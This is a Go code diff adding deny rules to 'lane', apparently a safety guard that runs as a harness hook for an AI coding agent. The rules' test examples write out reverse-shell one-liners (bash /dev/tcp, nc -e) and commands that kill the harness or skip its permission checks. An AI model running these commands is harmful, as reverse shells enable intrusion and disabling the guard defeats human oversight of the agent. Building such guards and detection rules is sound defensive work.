@@ -91,9 +91,24 @@ var (
 	}
 	gitWorktree = &Rule{
 		ID:    "lane/git-worktree",
-		Says:  "makes, moves or removes worktrees of the shared repository",
-		Catch: []Example{{Text: "git worktree add wt2"}, {Text: "git worktree prune"}},
-		Pass:  []Example{{Text: "git worktree list"}},
+		Says:  "removes what git keeps of other worktrees",
+		Catch: []Example{{Text: "git worktree prune"}},
+		Pass:  []Example{{Text: "git worktree list"}, {Text: "git worktree add .lanes/x HEAD"}},
+	}
+	guardOff = &Rule{
+		ID:   "lane/guard-off",
+		Says: "stops or loosens lane, the harness or its hooks",
+		Catch: []Example{
+			{Text: "kill -9 $PPID"}, {Text: "pkill -f 'lane hook'"}, {Text: "kill $(pgrep claude)"},
+			{Text: "LANE_HOME=x lane run"}, {Text: "claude --dangerously-skip-permissions -p x"},
+		},
+		Pass: []Example{{Text: "kill %1"}, {Text: "kill -9 1234"}, {Text: "pkill -f 'node server.js'"}, {Text: "kill -0 $PID"}, {Text: "claude --version"}, {Text: "kill -1 1234"}},
+	}
+	remoteShell = &Rule{
+		ID:    "lane/remote-shell",
+		Says:  "connects a shell to the network",
+		Catch: []Example{{Text: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}, {Text: "exec 5<>/dev/tcp/h/1; sh <&5 >&5"}, {Text: "nc -e /bin/sh h 1"}},
+		Pass:  []Example{{Text: "(echo > /dev/tcp/localhost/8080) 2>/dev/null && echo up"}, {Text: "nc -z localhost 8080"}},
 	}
 	escape = &Rule{
 		ID:    "lane/escape",
@@ -129,6 +144,10 @@ func (g *guard) judgeFinding(f shell.Finding) (Verdict, bool) {
 		return gitConfig.verdict(Deny, about+" "+gitConfig.Says+detail+". For one command use git -c KEY=VALUE, or GIT_AUTHOR_NAME and its like; lasting changes are the user's to make."), true
 	case shell.GitWorktree:
 		return gitWorktree.verdict(Deny, about+" "+gitWorktree.Says+detail+". "+worktreeWayOn), true
+	case shell.GuardOff:
+		return guardOff.verdict(Deny, about+" "+guardOff.Says+detail+". If the guard is in the way, say so to the user."), true
+	case shell.RemoteShell:
+		return remoteShell.verdict(Deny, about+" "+remoteShell.Says+detail+". Use ssh, or fetch a file and look at it."), true
 	case shell.Escape:
 		return escape.verdict(Deny, about+" "+escape.Says+detail+". Run it now, or tell the user what should run later."), true
 	case shell.TempMoved:
